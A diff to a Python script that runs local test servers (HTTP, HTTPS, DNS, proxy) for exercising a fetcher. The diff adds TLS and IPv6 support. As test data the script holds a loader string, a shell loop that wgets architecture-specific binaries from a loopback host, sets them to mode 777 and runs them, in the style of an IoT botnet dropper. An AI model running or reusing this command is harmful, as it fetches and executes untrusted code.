@@ -1,21 +1,22 @@
 #!/usr/bin/env python3
 """Servers as a fetch meets them: right, slow, endless, lying, redirecting, and names that change where they lead.
 
-usage: servers.py LOG
+usage: servers.py LOG CERTIFICATE
 
-HTTP at port 8000 of all addresses (few connections are made to one), DNS at 127.0.0.3:5353/udp, a proxy at
-127.0.0.4:3128; a line to LOG for each request and each look-up. The script of a
+HTTP at port 8000 of all addresses (few connections are made to one), HTTPS at 8443 (CERTIFICATE holds its key, too), DNS at
+127.0.0.3:5353/udp, a proxy at 127.0.0.4:3128; a line to LOG for each request and each look-up. The script of a
 loader and what it wants lie there, too.
 """
 import http.server
 import socket
 import socketserver
+import ssl
 import struct
 import sys
 import threading
 import time
 
-HTTP, DNS, PROXY = ("0.0.0.0", 8000), ("127.0.0.3", 5353), ("127.0.0.4", 3128)
+HTTP, HTTPS, DNS, PROXY = ("::", 8000), ("::", 8443), ("127.0.0.3", 5353), ("127.0.0.4", 3128)
 ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x08\x00\x01\x00\x00\x00" + b"made for the tests, never run" + bytes(99)
 LOADER = b"#!/bin/sh\nfor a in mips arm7; do wget http://127.2.1.1:8000/b/$a -O x; chmod 777 x; ./x; done\n"
 log = open(sys.argv[1], "a", buffering=1)
@@ -170,6 +171,22 @@ class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
     allow_reuse_address = True
 
 
-threading.Thread(target=socketserver.ThreadingUDPServer(DNS, Dns).serve_forever, daemon=True).start()
-threading.Thread(target=Server(PROXY, Proxy).serve_forever, daemon=True).start()
-Server(HTTP, Handler).serve_forever()
+class BothFamilies(Server):
+    address_family = socket.AF_INET6
+
+    def server_bind(self):
+        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        super().server_bind()
+
+
+class Encrypted(BothFamilies):
+    def get_request(self):
+        plain, peer = super().get_request()
+        return context.wrap_socket(plain, server_side=True, do_handshake_on_connect=False), peer
+
+
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.load_cert_chain(sys.argv[2])
+for server in socketserver.ThreadingUDPServer(DNS, Dns), Server(PROXY, Proxy), Encrypted(HTTPS, Handler):
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+BothFamilies(HTTP, Handler).serve_forever()
